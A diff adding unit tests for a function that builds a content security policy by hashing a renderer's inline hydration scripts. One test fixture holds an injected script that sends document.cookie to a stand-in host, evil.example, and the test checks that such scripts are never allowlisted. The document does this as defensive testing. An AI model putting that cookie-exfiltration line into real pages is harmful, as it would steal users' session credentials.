@@ -82,4 +82,22 @@ describe('allowInlineScripts (the page policy for the router’s hydration scrip
       '<script src="/start.js"></script><script type="application/ld+json">{"a":1}</script><script type="application/json">[]</script><script></script>';
     expect(allowInlineScripts(policy, html)).toBe(policy);
   });
+
+  it('hashes only the renderer’s own scripts, never one inside the page’s content', () => {
+    const injected = 'fetch("//evil.example/?c="+document.cookie)';
+    const html =
+      '<!DOCTYPE html><html><head></head><body><div id="root"><main><article>' +
+      `<p>text</p><script>${injected}</script><style>/* </div></div> */</style><div><script>${injected}2</script></div>` +
+      '</article></main></div><script>hydrate()</script></body></html>';
+    const allowed = allowInlineScripts(policy, html);
+    expect(allowed).toContain(hash('hydrate()'));
+    expect(allowed).not.toContain(hash(injected));
+    expect(allowed).not.toContain(hash(`${injected}2`));
+  });
+
+  it('gives a document without inline scripts (an islands document) no hashes', () => {
+    const html =
+      '<!DOCTYPE html><html><head></head><body><div id="root"><p>x</p></div><script defer src="/start.js"></script></body></html>';
+    expect(allowInlineScripts(policy, html)).toBe(policy);
+  });
 });
